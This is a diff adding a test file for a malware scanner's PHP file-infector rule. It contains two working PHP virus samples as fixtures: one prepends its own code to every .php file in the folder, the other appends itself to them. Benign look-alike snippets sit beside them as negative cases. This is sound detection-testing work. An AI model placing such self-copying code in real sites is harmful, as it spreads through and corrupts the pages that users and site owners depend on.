@@ -1,0 +1,52 @@
+/**
+ * File infectors (issue 27): PHP viruses and worms that copy their own code into the pages
+ * of a folder were missed, as they run no command and read no request. Each is written
+ * anew, beside what applications do that looks alike.
+ */
+import { describe, expect, it } from 'vitest';
+import { infectsFiles } from '../../src/findings/file-infector.js';
+import { isRuleAlarm, topFinding } from '../support/top-finding.js';
+
+const PREPENDER = `<?php // x
+$h = fopen(__FILE__, 'r'); $me = fread($h, 1024); fclose($h);
+$d = opendir('.');
+while (($f = readdir($d)) !== false) {
+  if (substr($f, -4) != '.php' || $f == basename(__FILE__)) continue;
+  $body = file_get_contents($f);
+  if (strpos($body, '// x') !== false) continue;
+  $w = fopen($f, 'w'); fwrite($w, $me . $body); fclose($w);
+}`;
+
+const APPENDER = `<?php
+$self = $_SERVER['SCRIPT_FILENAME'];
+foreach (glob('*.php') as $victim) {
+  file_put_contents($victim, file_get_contents($self), FILE_APPEND);
+}`;
+
+describe('file infectors', () => {
+  it("ranks a PHP virus that prepends or appends itself to the folder's pages high", () => {
+    for (const text of [PREPENDER, APPENDER])
+      expect(topFinding('/var/www/html/lib/x.php', text)).toMatchObject({
+        rule: 'file-infector',
+        severity: 'high',
+        attack: 'T1080',
+      });
+  });
+
+  it('leaves a cache cleaner, an error array naming __FILE__, and an installer writing its own names', () => {
+    // Lists the folder and writes, but never reads its own code: a template cache.
+    const cache = `<?php foreach (glob($dir . '/*.tpl') as $tpl) { file_put_contents($tpl . '.php', compile($tpl)); }`;
+    expect(infectsFiles(cache)).toBe(false);
+    // An error's origin is no copy of the code.
+    const errors = `<?php $e = ['file' => __FILE__, 'line' => __LINE__];
+while (($name = readdir($dh)) !== false) { if ($name == 'index.php') continue; $langs[] = $name; }
+$fp = fopen($logfile, 'a');`;
+    expect(infectsFiles(errors)).toBe(false);
+    // Reads its own file and writes what it carries, to names of its own.
+    const installer = `<?php $me = fopen(__FILE__, 'rb'); fseek($me, __COMPILER_HALT_OFFSET__);
+foreach (scandir('.') as $f) { if ($f == 'install.php') $found = true; }
+file_put_contents('app/config.php', stream_get_contents($me));`;
+    expect(infectsFiles(installer)).toBe(false);
+    expect(isRuleAlarm('/var/www/html/install.php', installer)).toBe(false);
+  });
+});
